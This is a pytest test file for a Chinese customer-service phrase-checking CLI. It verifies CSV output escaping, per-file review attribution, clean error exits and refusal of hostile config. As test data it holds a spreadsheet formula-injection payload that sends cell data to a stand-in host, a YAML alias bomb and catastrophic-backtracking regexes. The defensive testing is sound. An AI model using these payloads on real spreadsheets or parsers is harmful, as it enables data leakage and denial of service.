"""Issue 15: nothing charged to the wrong person, nothing dropped in silence, no crash from a file a
user can write. Each test here is one of the probes that found a defect, rerun."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from phrasecheck.cells import is_safe_cell
from phrasecheck.cli import main
from phrasecheck.scoring.review import read_reviews
from reports_helpers import GREETING, write_day

EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _cells_safe(rows: list[list[str]]) -> bool:
    return all(is_safe_cell(cell) for row in rows for cell in row)


def _chat(path: Path, convs: list[tuple[str, str, list[tuple[str, str]]]], agent_per_turn: bool = False) -> Path:
    """convs: (conversation_id, agent_id, [(role, text)]); with agent_per_turn the agent id may be
    'A1>A2' and turns after a 'transfer' marker get the second id."""
    lines = []
    for cid, agent, turns in convs:
        for role, text in turns:
            lines.append(json.dumps({"conversation_id": cid, "agent_id": agent, "role": role, "text": text}, ensure_ascii=False))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# --- formula injection ----------------------------------------------------------------------------


def test_no_written_csv_cell_starts_a_formula(tmp_path):
    day = _chat(tmp_path / "day.jsonl", [(EVIL, "+A1", [("customer", "hi"), ("agent", GREETING), ("customer", "x"), ("agent", "-这个我不知道")])])
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["report", str(day), "--out", str(out)])
    assert res.exit_code == 0, res.output
    for name in ("review.csv", "calls.csv", "kpi.csv"):
        rows = _rows(out / name)
        assert _cells_safe(rows), name
        assert any(cell == "'" + EVIL for row in rows for cell in row) or name == "kpi.csv", name
    res = CliRunner().invoke(main, ["check", str(day), "--format", "csv", "--fail-on", "none"])
    rows = list(csv.reader(io.StringIO(res.output)))
    assert _cells_safe(rows) and ["'" + EVIL, "'+A1"] == rows[1][1:3]
    # review.csv is read back as it was written: the key and conversation id without the apostrophe
    (entry,) = read_reviews(out / "review.csv").values()
    assert entry.conversation_id == EVIL and entry.key.endswith(f"{EVIL}:F02:4:4")


# --- who is charged: review keys carry the source file ------------------------------------------


def _two_days(tmp_path: Path) -> tuple[Path, Path]:
    """Two days' exports that both number their conversations from c1; different agents said 不知道."""
    a = _chat(tmp_path / "dayA" / "chats.jsonl", [("c1", "A1", [("customer", "停车费"), ("agent", GREETING), ("customer", "?"), ("agent", "这个我不知道。")])])
    b = _chat(tmp_path / "dayB" / "chats.jsonl", [("c1", "B2", [("customer", "停车费"), ("agent", GREETING), ("customer", "?"), ("agent", "这个我不知道。")])])
    return a, b


def test_the_same_conversation_id_in_two_files_gives_two_review_rows_and_one_verdict_each(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)]).exit_code == 0
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    assert [(r["agent_id"], r["source"]) for r in rows] == [("A1", str(a)), ("B2", str(b))]
    res = CliRunner().invoke(main, ["review-mark", str(out / "findings.json"), "--finding", f"{a}:c1:F02", "--verdict", "false"])
    assert res.exit_code == 0, res.output
    assert CliRunner().invoke(main, ["report", str(out / "findings.json"), "--out", str(out)]).exit_code == 0
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert (agents["A1"]["forbidden"], agents["B2"]["forbidden"]) == (0, 1)  # overruling A1's left B2's standing
    # the short key alone is ambiguous now, and says so
    res = CliRunner().invoke(main, ["review-mark", str(out / "findings.json"), "--finding", "c1:F02", "--verdict", "false"])
    assert res.exit_code == 2 and "ambiguous" in res.output


def test_an_old_review_file_is_migrated_where_one_finding_fits_and_reported_where_not(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    # keys as written before the source was part of them: 1-based (c1:F02:4:3), and 0-based (c1:F02:3:3)
    (out / "review.csv").write_text(
        "key,conversation_id,agent_id,rule,turn,quote,verdict,note,checked_by_lead\r\n"
        "c1:F02:3:3,c1,A1,F02,3,不知道,false,问的是别人,yes\r\n"
        "c1:F02:4:9,c1,,F02,4,不知道,confirmed,,\r\n",
        encoding="utf-8-sig",
    )
    res = CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert f"review entry c1:F02:3:3 is now {a}:c1:F02:4:3" in res.output  # the agent column says whose
    assert "review entry c1:F02:4:9 matches no finding" in res.output  # no finding at char 9: never guessed
    entries = read_reviews(out / "review.csv")
    assert entries[f"{a}:c1:F02:4:3"].verdict == "false" and entries[f"{b}:c1:F02:4:3"].verdict == ""
    assert entries[f"{a}:c1:F02:4:3"].extra == {"checked_by_lead": "yes"}  # a column the lead added survives
    assert entries["c1:F02:4:9"].verdict == "confirmed"  # kept, not lost


def test_an_ambiguous_old_key_is_not_applied(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "review.csv").write_text("key,verdict\r\nc1:F02:4:3,false\r\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)])
    assert "review entry c1:F02:4:3 matches no finding" in res.output
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert (agents["A1"]["forbidden"], agents["B2"]["forbidden"]) == (1, 1)


def test_a_review_file_saved_by_excel_as_gbk_is_read(tmp_path):
    day = write_day(tmp_path / "day.jsonl")
    out = tmp_path / "out"
    CliRunner().invoke(main, ["report", str(day), "--out", str(out)])
    text = (out / "review.csv").read_text(encoding="utf-8-sig").replace(",c2,A1,F02,4,不知道,,", ",c2,A1,F02,4,不知道,误报,")
    (out / "review.csv").write_bytes(text.encode("gbk"))
    res = CliRunner().invoke(main, ["report", str(out / "findings.json"), "--out", str(out)])
    assert res.exit_code == 0, res.output
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert agents["A1"]["attitude"] == 10.0


# --- exit codes: 3 for a bug, with the traceback in a file ------------------------------------------


def test_an_internal_error_is_one_line_exit_3_and_a_traceback_file(tmp_path, monkeypatch):
    from phrasecheck.engine import checker as checker_module

    def broken(self, conv):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setenv("PHRASECHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(checker_module.Checker, "check", broken)
    day = write_day(tmp_path / "day.jsonl")
    res = CliRunner().invoke(main, ["check", str(day)])
    assert res.exit_code == 3
    (line,) = res.output.strip().splitlines()
    assert line.startswith("phrasecheck: internal error (ZeroDivisionError: division by zero); the full traceback is in ")
    saved = Path(line.rsplit(" ", 1)[1])
    assert saved.parent == tmp_path / "cache" / "crashes" and "Traceback" in saved.read_text(encoding="utf-8")
    assert "Traceback" not in res.output


# --- profiles and lexicons a user can write ---------------------------------------------------------------


def _profile(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "phrasecheck.yaml"
    path.write_text(text, encoding="utf-8")
    return path


BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi"))


@pytest.mark.parametrize(
    "text, message",
    [
        (BOMB, "phrasecheck.yaml:2: invalid YAML: YAML aliases (*a) are not allowed here"),
        ("weights: {max_score: 0}\n", "weights.max_score must be above 0"),
        ("weights: {forbidden: .nan}\n", "weights.forbidden must be a number >= 0, got nan"),
        ("weights: {greeting: .inf}\n", "weights.greeting must be a number >= 0, got inf"),
        ("thresholds: {F99: 80}\n", "thresholds: unknown rule id F99"),
        ("fatal: [F11, F1l]\n", "fatal: unknown rule id F1l"),
    ],
)
def test_a_bad_profile_is_one_clear_line(tmp_path, text, message):
    day = write_day(tmp_path / "day.jsonl")
    res = CliRunner().invoke(main, ["report", str(day), "--out", str(tmp_path / "out"), "--config", str(_profile(tmp_path, text))])
    assert res.exit_code == 2, res.output
    assert message in res.output and len(res.output.strip().splitlines()) == 1


def test_a_huge_settings_file_is_refused_before_parsing(tmp_path):
    path = _profile(tmp_path, "company: [" + "x, " * 400_000 + "x]\n")
    res = CliRunner().invoke(main, ["lexicon", "check", str(path)])
    assert res.exit_code == 2 and "too big for a settings file" in res.output


def _lexicon_with_exception(tmp_path: Path, pattern: str) -> Path:
    folder = tmp_path / "lex"
    folder.mkdir()
    (folder / "forbidden.yaml").write_text(
        f"kind: forbidden\nphrases:\n  - id: F02\n    text: 不知道\n    exceptions: ['{pattern}']\n",
        encoding="utf-8",
    )
    return folder


def test_an_exception_regex_with_nested_quantifiers_is_refused_when_loaded(tmp_path):
    folder = _lexicon_with_exception(tmp_path, "(a+)+$")
    res = CliRunner().invoke(main, ["lexicon", "check", str(folder / "forbidden.yaml")])
    assert res.exit_code == 2 and "forbidden.yaml:3: F02: bad exception pattern '(a+)+$': a repeated group" in res.output
    res = CliRunner().invoke(main, ["check", "--lexicon", str(folder), str(write_day(tmp_path / "day.jsonl"))])
    assert res.exit_code == 2 and "bad exception pattern" in res.output


def test_an_exception_regex_that_backtracks_anyway_is_stopped_by_its_time_limit(tmp_path):
    from conftest import conv
    from phrasecheck.config.lexicon import load_lexicon
    from phrasecheck.config.profile import Profile
    from phrasecheck.engine.checker import Checker
    from phrasecheck.errors import ConfigError

    folder = _lexicon_with_exception(tmp_path, "(好|好好)+$")  # no nested quantifier, exponential all the same
    checker = Checker(load_lexicon(folder), Profile())
    with pytest.raises(ConfigError, match=r"forbidden.yaml:3: F02: exception pattern .* ran over 0.25 s"):
        checker.check(conv(("agent", "不知道" + "好" * 40 + "吗")))
